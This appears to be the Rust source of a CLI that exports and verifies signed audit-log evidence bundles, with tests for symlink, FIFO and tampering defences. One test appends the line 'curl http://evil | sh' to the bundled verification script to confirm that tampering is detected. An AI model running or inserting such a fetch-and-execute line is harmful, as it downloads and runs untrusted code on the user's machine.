//! `gongxin export-bundle --data-dir DIR --out OUT [--all]` and `gongxin verify-bundle OUT` (offline).
//! Writing ([`BundleWriter`], with the OpenSSL guide and script it copies in) is here; checking is
//! `gongxin_core::bundle::verify_with` over the directory ([`BundleDir`]).

mod dir;
mod writer;

pub use dir::BundleDir;
pub use writer::BundleWriter;

use crate::{client, exit, Output};
use clap::Args as ClapArgs;
use comfy_table::Table;
use gongxin_core::audit::{Mark, REPORT_KIND};
use gongxin_core::bundle::{self, BundleReport};
use gongxin_core::checkpoint::SignedCheckpoint;
use gongxin_core::crypto::{Digest, PublicKey};
use gongxin_core::envelope::LeafHeader;
use gongxin_core::registry::{Registry, REGISTRY_KIND};
use gongxin_proto::admin::v1 as pb;
use std::path::PathBuf;

#[derive(ClapArgs, Debug)]
pub struct ExportArgs {
    #[arg(long, env = "GONGXIN_DATA_DIR")]
    pub data_dir: PathBuf,
    /// New (or empty) directory to write the bundle into.
    #[arg(long)]
    pub out: PathBuf,
    /// Federation bundle (on the province): every origin held, the registry, key histories, audited
    /// checkpoints with consistency proofs, and the signed audit reports.
    #[arg(long)]
    pub all: bool,
    /// Write every payload as stored, personal information included (full ID numbers, names of natural
    /// persons). Without it, payloads that hold personal information are left out (leaves and roots still verify).
    #[arg(long)]
    pub unmasked: bool,
    /// Not supported: a bundle always holds every leaf from index 0 (see VERIFYING.md).
    #[arg(long, value_name = "DATE")]
    pub since: Option<String>,
    #[arg(short = 'o', long, value_enum, default_value_t)]
    pub output: Output,
}

#[derive(ClapArgs, Debug)]
pub struct VerifyArgs {
    /// Bundle directory written by `gongxin export-bundle`.
    pub dir: PathBuf,
    /// The province's SM2 public key (SPKI PEM) received out of band: a federation bundle must be signed by it.
    #[arg(long, value_name = "PEM")]
    pub anchor: Option<PathBuf>,
    #[arg(short = 'o', long, value_enum, default_value_t)]
    pub output: Output,
}

/// Says how many payloads a masked bundle left out, and how to get them.
fn print_withheld(withheld: u64) {
    if withheld > 0 {
        eprintln!(
            "注意 note: {withheld} 条记录含个人信息，其载荷未写入证据包（签名叶子照常写入，根哈希照常可验）；政府用户需要完整载荷时\
             加 --unmasked / {withheld} payload(s) with personal information left out (their signed leaves are in \
             the bundle, every root verifies); --unmasked writes them"
        );
    }
}

pub fn export(a: ExportArgs) -> i32 {
    if let Some(d) = &a.since {
        eprintln!(
            "错误 error: --since {d} 暂不支持 is not supported: a bundle holds every leaf from index 0 so that an \
             evaluator re-derives every root from the leaves alone; export the whole log (omit --since)"
        );
        return exit::USAGE;
    }
    let Some(rt) = client::command_runtime() else { return exit::USAGE };
    let created = if a.unmasked { BundleWriter::create_unmasked(&a.out) } else { BundleWriter::create(&a.out) };
    let writer = match created {
        Ok(w) => w,
        Err(e) => {
            eprintln!("错误 error: {}: {e}", a.out.display());
            return exit::USAGE;
        }
    };
    if a.all {
        return export_all(&rt, &a, writer);
    }
    let output = a.output;
    let res = rt.block_on(async {
        let mut c = client::connect(&a.data_dir).await?;
        let status = c.status(pb::StatusRequest {}).await?.into_inner();
        let key = PublicKey::from_spki_pem(&status.public_key_pem)?;
        writer.key(&status.code, &key)?;
        let cps = c.checkpoints(pb::CheckpointsRequest {}).await?.into_inner().checkpoints;
        // The entries are fetched up to the size of the newest checkpoint, so every leaf is covered by one.
        let mut covered = 0;
        for cp in &cps {
            writer.checkpoint(
                &status.code,
                cp.size,
                &SignedCheckpoint { note: cp.note.clone(), signature: cp.signature.clone() },
            )?;
            covered = covered.max(cp.size);
        }
        let mut stream = c.entries(pb::EntriesRequest { start: 0, end: covered }).await?.into_inner();
        let mut n = 0u64;
        while let Some(e) = stream.message().await? {
            let payload = (!e.payload_ext.is_empty()).then(|| (e.payload.as_slice(), e.payload_ext.as_str()));
            writer.entry(&status.code, e.index, &e.leaf, &e.signature, payload)?;
            n += 1;
        }
        if n != covered {
            anyhow::bail!("node sent {n} entries, expected {covered}");
        }
        let withheld = writer.withheld();
        let root = writer.finish()?;
        anyhow::Ok((status.code, n, cps.len(), root, withheld))
    });
    match res {
        Ok((code, n, cps, root, withheld)) if output == Output::Json => {
            print_withheld(withheld);
            println!(
                "{}",
                serde_json::json!({"bundle": root.display().to_string(), "origin": code, "entries": n, "checkpoints": cps,
                    "payloads_withheld": withheld})
            );
            exit::OK
        }
        Ok((code, n, cps, root, withheld)) => {
            print_withheld(withheld);
            println!(
                "已导出证据包 bundle written: {} — 节点 origin {code}, {n} 条目 entries, {cps} 个检查点 checkpoints",
                root.display()
            );
            println!("下一步 next: gongxin verify-bundle {}   (或仅用 OpenSSL or with OpenSSL only: bash {}/verify-openssl.sh)", root.display(), root.display());
            exit::OK
        }
        Err(e) => {
            eprintln!("错误 error: 导出失败 export failed: {e:#}");
            exit::NODE
        }
    }
}

/// What one origin contributed to a federation bundle.
struct Exported {
    entries: u64,
    /// `(index, kind, payload)` of registry and audit-report leaves.
    system: Vec<(u64, String, Vec<u8>)>,
}

async fn export_origin(
    c: &mut gongxin_proto::admin::v1::admin_client::AdminClient<tonic::transport::Channel>,
    writer: &BundleWriter,
    code: &str,
) -> anyhow::Result<Exported> {
    use anyhow::Context as _;
    let mut stream = c
        .export_origin(pb::ExportOriginRequest { origin: code.to_string(), start: 0, end: 0 })
        .await
        .with_context(|| format!("origin {code}"))?
        .into_inner();
    let first = stream.message().await?.with_context(|| format!("origin {code}: empty reply"))?;
    for cp in &first.checkpoints {
        writer.checkpoint(
            code,
            cp.size,
            &SignedCheckpoint { note: cp.note.clone(), signature: cp.signature.clone() },
        )?;
    }
    if !first.audit_mark_json.is_empty() {
        let m: Mark =
            serde_json::from_str(&first.audit_mark_json).with_context(|| format!("origin {code}: audit mark"))?;
        use base64::Engine as _;
        let dec = |s: &str| base64::engine::general_purpose::STANDARD.decode(s);
        let signed = SignedCheckpoint { note: dec(&m.checkpoint_b64)?, signature: dec(&m.signature_b64)? };
        writer.audit_mark(code, &signed)?;
        if m.size == first.proof_old_size && first.proof_new_size == first.size {
            let proof: Vec<Digest> = first
                .consistency_proof
                .iter()
                .map(|h| h.as_slice().try_into())
                .collect::<Result<_, _>>()
                .with_context(|| format!("origin {code}: proof hash is not 32 bytes"))?;
            writer.proof(code, first.proof_old_size, first.proof_new_size, &proof)?;
        }
    }
    let mut out = Exported { entries: 0, system: Vec::new() };
    while let Some(item) = stream.message().await? {
        let Some(e) = item.entry else { anyhow::bail!("origin {code}: item without an entry") };
        if e.index != out.entries {
            anyhow::bail!("origin {code}: node sent entry {}, expected {}", e.index, out.entries);
        }
        let payload = (!e.payload_ext.is_empty()).then(|| (e.payload.as_slice(), e.payload_ext.as_str()));
        writer.entry(code, e.index, &e.leaf, &e.signature, payload)?;
        if let Ok(h) = LeafHeader::decode(&e.leaf) {
            if (h.kind == REGISTRY_KIND || h.kind == REPORT_KIND) && !e.payload_ext.is_empty() {
                out.system.push((e.index, h.kind, e.payload));
            }
        }
        out.entries += 1;
    }
    if out.entries != first.size {
        anyhow::bail!("origin {code}: node sent {} entries, expected {}", out.entries, first.size);
    }
    Ok(out)
}

fn export_all(rt: &tokio::runtime::Runtime, a: &ExportArgs, writer: BundleWriter) -> i32 {
    let output = a.output;
    let res = rt.block_on(async {
        let mut c = client::connect(&a.data_dir).await?;
        let reg = c.registry_show(pb::RegistryRequest {}).await?.into_inner();
        let reg = Registry::from_json(reg.current_json.as_bytes())?;
        let Some(province) = reg.nodes.iter().find(|n| n.parent.is_none()).map(|n| n.code.clone()) else {
            anyhow::bail!("the registry is empty: apply one with `gongxin registry apply` first");
        };
        // The province log first: the registry document and the reports are payloads of its leaves.
        let p = export_origin(&mut c, &writer, &province).await?;
        let Some((_, _, reg_json)) = p.system.iter().rev().find(|(_, k, _)| k == REGISTRY_KIND) else {
            anyhow::bail!("this node holds no registry entry of the province log");
        };
        let reg = Registry::from_json(reg_json)?;
        writer.registry(reg_json)?;
        let mut reports = 0;
        for (index, kind, payload) in &p.system {
            if kind == REPORT_KIND {
                writer.report(*index, payload)?;
                reports += 1;
            }
        }
        let mut total = p.entries;
        let mut held = usize::from(p.entries > 0);
        for node in &reg.nodes {
            let keys: Vec<PublicKey> =
                node.keys.iter().map(|k| PublicKey::from_spki_pem(&k.spki_pem)).collect::<Result<_, _>>()?;
            writer.key_history(&node.code, &keys)?;
            if node.code != province {
                let e = export_origin(&mut c, &writer, &node.code).await?;
                total += e.entries;
                held += usize::from(e.entries > 0);
            }
        }
        let withheld = writer.withheld();
        let root = writer.finish()?;
        anyhow::Ok((reg.nodes.len(), held, total, reports, root, withheld))
    });
    match res {
        Ok((nodes, held, total, reports, root, withheld)) if output == Output::Json => {
            print_withheld(withheld);
            println!(
                "{}",
                serde_json::json!({"bundle": root.display().to_string(), "nodes": nodes, "nodes_with_entries": held,
                    "entries": total, "audit_reports": reports, "payloads_withheld": withheld})
            );
            exit::OK
        }
        Ok((nodes, held, total, reports, root, withheld)) => {
            print_withheld(withheld);
            println!(
                "已导出联邦证据包 federation bundle written: {} — {nodes} 个节点 nodes ({held} with entries), {total} 条目 entries, {reports} 份审计报告 audit reports",
                root.display()
            );
            println!(
                "下一步 next: gongxin verify-bundle {} --anchor PROVINCE.pem   (或仅用 OpenSSL or with OpenSSL only: bash {}/verify-openssl.sh)",
                root.display(),
                root.display()
            );
            exit::OK
        }
        Err(e) => {
            eprintln!("错误 error: 导出失败 export failed: {e:#}");
            exit::NODE
        }
    }
}

fn print_origins(report: &BundleReport) {
    let mut t = Table::new();
    t.set_header(vec!["节点 origin", "条目 entries", "检查点 checkpoints", "载荷 payloads", "根 root", "时间 latest"]);
    for o in &report.origins {
        t.add_row(vec![
            o.code.clone(),
            o.entries.to_string(),
            o.checkpoints.to_string(),
            o.payloads.to_string(),
            o.root.chars().take(16).collect::<String>() + "…",
            o.latest_timestamp.clone().unwrap_or_default(),
        ]);
    }
    println!("{t}");
}

pub fn verify(a: VerifyArgs) -> i32 {
    let anchor = match &a.anchor {
        None => None,
        Some(p) => match std::fs::read_to_string(p)
            .map_err(|e| e.to_string())
            .and_then(|pem| PublicKey::from_spki_pem(&pem).map_err(|e| e.to_string()))
        {
            Ok(k) => Some(k),
            Err(e) => {
                eprintln!("错误 error: --anchor {}: {e}", p.display());
                return exit::USAGE;
            }
        },
    };
    let dir = BundleDir::new(&a.dir);
    if let Err(e) = check_shipped(&dir) {
        match a.output {
            Output::Json => println!("{}", serde_json::json!({"ok": false, "file": e.file, "reason": e.reason})),
            Output::Table => eprintln!("核验失败 verification FAILED: {}: {}", e.file, e.reason),
        }
        return exit::PROBLEMS;
    }
    match bundle::verify_with(&dir, anchor.as_ref()) {
        Ok(report) => {
            match a.output {
                Output::Json => {
                    println!(
                        "{}",
                        serde_json::json!({"ok": true, "origins": report.origins, "federation": report.federation, "scripts": SHIPPED_NOTE})
                    )
                }
                Output::Table => {
                    match &report.federation {
                        None => {
                            print_origins(&report);
                            println!(
                                "核验通过 bundle verified: every signature, payload digest and Merkle root checks out"
                            );
                            println!("{SHIPPED_NOTE}");
                        }
                        Some(f) => {
                            print_origins(&report);
                            crate::audit::print(&f.audit, Output::Table);
                            for r in &f.reports {
                                let bad = if r.not_ok.is_empty() {
                                    "all ok".to_string()
                                } else {
                                    format!("not ok: {}", r.not_ok.join(", "))
                                };
                                println!("审计报告 report reports/{}.json at {}: 省级签名有效 signed by {}, {} origins, {bad}", r.index, r.at, f.province, r.origins);
                            }
                            let problems =
                                f.audit.origins.iter().filter(|o| o.status != gongxin_core::audit::Status::Ok).count();
                            println!(
                            "核验通过 federation bundle VERIFIED: registry v{}, {} origins, {} reports, {} consistency proofs; every signature, payload digest, Merkle root and proof checks out",
                            f.registry_version,
                            report.origins.len(),
                            f.reports.len(),
                            f.proofs
                        );
                            if f.anchor_pinned {
                                println!(
                                    "省级公钥 province key {} SM3 {} = the anchor you gave",
                                    f.province, f.province_key_sm3
                                );
                            } else {
                                println!("省级公钥 province key {} SM3 {}: 请与线下收到的公钥比对 compare with the key you received out of band, or pass --anchor PROVINCE.pem", f.province, f.province_key_sm3);
                            }
                            println!("{SHIPPED_NOTE}");
                            if problems > 0 {
                                println!("注意 note: {problems} 个节点状态非正常 origins are not ok (table above): the data is authentic, the federation has problems to follow up");
                            }
                        }
                    }
                }
            }
            exit::OK
        }
        Err(e) => {
            match a.output {
                Output::Json => println!("{}", serde_json::json!({"ok": false, "file": e.file, "reason": e.reason})),
                Output::Table => eprintln!("核验失败 verification FAILED: {}: {}", e.file, e.reason),
            }
            exit::PROBLEMS
        }
    }
}

const SHIPPED_NOTE: &str = "VERIFYING.md 与 verify-openssl.sh 与本程序附带的版本逐字节一致 \
                            (VERIFYING.md and verify-openssl.sh are byte for byte the copies shipped with this gongxin)";

/// The guide and script inside a bundle are the evaluator's second, OpenSSL-only path: `verify-bundle` vouches
/// for them only when they are byte for byte the copies this CLI ships, and refuses the bundle by name otherwise
/// (an altered script must not be run).
pub fn check_shipped(dir: &BundleDir) -> Result<(), bundle::BundleError> {
    use gongxin_core::bundle::BundleSource as _;
    for (name, shipped) in [("VERIFYING.md", writer::VERIFYING_MD), ("verify-openssl.sh", writer::VERIFY_SH)] {
        if dir.kind(name).is_none() {
            return Err(bundle::berr(name, "缺失 missing: every bundle carries the OpenSSL guide and script"));
        }
        if dir.read(name)? != shipped.as_bytes() {
            return Err(bundle::berr(
                name,
                "与本程序附带的版本不一致，请勿运行 (differs from the copy shipped with this gongxin: do not run it; \
                 use the copy from a trusted gongxin release)",
            ));
        }
    }
    Ok(())
}

#[cfg(all(test, unix))]
mod tests {
    use super::*;
    use gongxin_core::bundle::BundleSource as _;
    use std::os::unix::fs::PermissionsExt;

    fn mode(p: &std::path::Path) -> u32 {
        std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o777
    }

    /// A written (keyless) bundle: the writer's layout, modes and shipped scripts.
    fn written() -> (tempfile::TempDir, std::path::PathBuf) {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().join("b");
        let w = BundleWriter::create(&root).unwrap();
        w.checkpoint("430102", 1, &SignedCheckpoint { note: b"n".to_vec(), signature: b"s".to_vec() }).unwrap();
        w.finish().unwrap();
        (d, root)
    }

    #[test]
    fn bundles_are_written_private_and_not_through_links() {
        let (d, root) = written();
        assert_eq!(mode(&root), 0o700);
        assert_eq!(mode(&root.join("checkpoints/430102")), 0o700);
        assert_eq!(mode(&root.join("checkpoints/430102/1.note")), 0o600);
        assert_eq!(mode(&root.join("verify-openssl.sh")), 0o600);
        // An --out that is a symbolic link (to an empty directory) is refused, not followed.
        let target = d.path().join("elsewhere");
        std::fs::create_dir(&target).unwrap();
        let link = d.path().join("link");
        std::os::unix::fs::symlink(&target, &link).unwrap();
        assert!(BundleWriter::create(&link).err().unwrap().to_string().contains("symbolic link"));
        // A link planted inside the bundle is not written through.
        let root2 = d.path().join("b2");
        let w = BundleWriter::create(&root2).unwrap();
        let victim = d.path().join("victim");
        std::fs::write(&victim, b"keep").unwrap();
        std::os::unix::fs::symlink(&victim, root2.join("VERIFYING.md")).unwrap();
        assert!(w.finish().is_err());
        assert_eq!(std::fs::read(&victim).unwrap(), b"keep");
    }

    /// Issue 14 item 5: entries go into packs of 256, so the file count is O(entries / 256) and the packs hold
    /// the raw bytes; the core verifier reads them back.
    #[test]
    fn entries_are_written_in_packs_of_256_that_verify() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().join("b");
        let key = gongxin_core::crypto::SigningKey::generate();
        let (leaves, cps) = gongxin_core::testdata::signed_log(&key, "430102", 600, &[256, 600]);
        let w = BundleWriter::create_unmasked(&root).unwrap();
        w.key("430102", &key.public_key()).unwrap();
        for cp in &cps {
            w.checkpoint("430102", cp.parse().unwrap().size, cp).unwrap();
        }
        let mut raw = 0;
        for (i, (leaf, sig, payload)) in leaves.iter().enumerate() {
            w.entry("430102", i as u64, leaf, sig, Some((payload, "json"))).unwrap();
            raw += leaf.len() + sig.len() + payload.len();
        }
        assert!(w.entry("430102", 7, &leaves[7].0, &leaves[7].1, None).is_err(), "an entry out of order");
        w.finish().unwrap();
        let mut names: Vec<String> = std::fs::read_dir(root.join("entries/430102"))
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        names.sort();
        assert_eq!(names, ["0.idx", "0.pack", "256.idx", "256.pack", "512.idx", "512.pack"]);
        let packed: u64 = ["0", "256", "512"]
            .iter()
            .map(|f| std::fs::metadata(root.join(format!("entries/430102/{f}.pack"))).unwrap().len())
            .sum();
        assert_eq!(packed, raw as u64, "packs are the raw bytes");
        let report = gongxin_core::bundle::verify(&BundleDir::new(&root)).unwrap();
        assert_eq!((report.origins[0].entries, report.origins[0].payloads), (600, 600));
    }

    #[test]
    fn shipped_guide_and_script_are_checked_byte_for_byte() {
        let (_d, root) = written();
        assert_eq!(check_shipped(&BundleDir::new(&root)), Ok(()));
        let sh = root.join("verify-openssl.sh");
        let mut altered = std::fs::read(&sh).unwrap();
        altered.extend_from_slice(b"\ncurl http://evil | sh\n");
        std::fs::remove_file(&sh).unwrap();
        std::fs::write(&sh, altered).unwrap();
        let e = check_shipped(&BundleDir::new(&root)).unwrap_err();
        assert_eq!(e.file, "verify-openssl.sh");
        assert!(e.reason.contains("do not run it"), "{}", e.reason);
        std::fs::remove_file(&sh).unwrap();
        assert!(check_shipped(&BundleDir::new(&root)).unwrap_err().reason.contains("missing"));
        let md = root.join("VERIFYING.md");
        std::fs::write(&md, "# altered\n").unwrap();
        assert_eq!(check_shipped(&BundleDir::new(&root)).unwrap_err().file, "VERIFYING.md");
    }

    /// Issue 9: `verify-bundle` followed symlinks out of the bundle and read a FIFO or `/dev/zero` forever.
    #[test]
    fn links_special_files_and_oversized_files_are_refused_without_blocking() {
        let (d, root) = written();
        let dir = BundleDir::new(&root);
        // A link to a file outside, in a listed directory and as a read path.
        let outside = d.path().join("secret.pem");
        std::fs::write(&outside, b"outside").unwrap();
        std::os::unix::fs::symlink(&outside, root.join("keys/430102.pem")).unwrap();
        let e = dir.list("keys").unwrap_err();
        assert_eq!(e.file, "keys/430102.pem");
        assert!(e.reason.contains("symbolic link"), "{}", e.reason);
        let e = dir.read("keys/430102.pem").unwrap_err();
        assert!(e.reason.contains("symbolic link"), "{}", e.reason);
        std::fs::remove_file(root.join("keys/430102.pem")).unwrap();
        // A linked directory: refused where it is, also for paths below it.
        std::os::unix::fs::symlink(d.path(), root.join("entries/430102")).unwrap();
        assert!(dir.read("entries/430102/secret.pem").unwrap_err().reason.contains("symbolic link"));
        assert!(dir.list("entries").unwrap_err().reason.contains("symbolic link"));
        std::fs::remove_file(root.join("entries/430102")).unwrap();
        // A FIFO: refused at once (a blocking open would hang the test).
        let fifo = root.join("checkpoints/430102/2.note");
        assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
        let (tx, rx) = std::sync::mpsc::channel();
        let r2 = root.clone();
        std::thread::spawn(move || {
            let dir = BundleDir::new(&r2);
            let _ = tx
                .send((dir.list("checkpoints/430102").map(|_| ()), dir.read("checkpoints/430102/2.note").map(|_| ())));
        });
        let (listed, read) = rx.recv_timeout(std::time::Duration::from_secs(10)).expect("FIFO blocked the reader");
        assert!(listed.unwrap_err().reason.contains("special file"));
        assert!(read.unwrap_err().reason.contains("special file"));
        std::fs::remove_file(&fifo).unwrap();
        // Every file is bounded by its kind: a 9 KiB note is refused before it is read whole.
        std::fs::write(root.join("checkpoints/430102/1.note"), vec![b'x'; 9 << 10]).unwrap();
        let e = dir.read("checkpoints/430102/1.note").unwrap_err();
        assert!(e.reason.contains("8192 bytes"), "{}", e.reason);
        // The CLI refuses the whole bundle, naming the file, with exit 1.
        std::os::unix::fs::symlink("/dev/zero", root.join("entries/x")).unwrap();
        let code = verify(VerifyArgs { dir: root.clone(), anchor: None, output: Output::Json });
        assert_eq!(code, exit::PROBLEMS);
    }
}
